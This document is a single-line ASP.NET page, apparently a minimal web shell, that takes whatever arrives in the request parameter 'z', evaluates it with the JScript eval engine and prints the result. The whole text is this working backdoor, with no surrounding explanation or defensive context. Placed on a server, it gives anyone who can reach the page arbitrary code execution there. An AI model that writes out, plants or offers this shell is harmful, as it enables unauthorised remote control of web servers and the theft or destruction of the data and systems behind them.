<%@ Page Language="VB" %><%Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request.Item("z"), Microsoft.JScript.Vsa.VsaEngine.CreateEngine()))%>
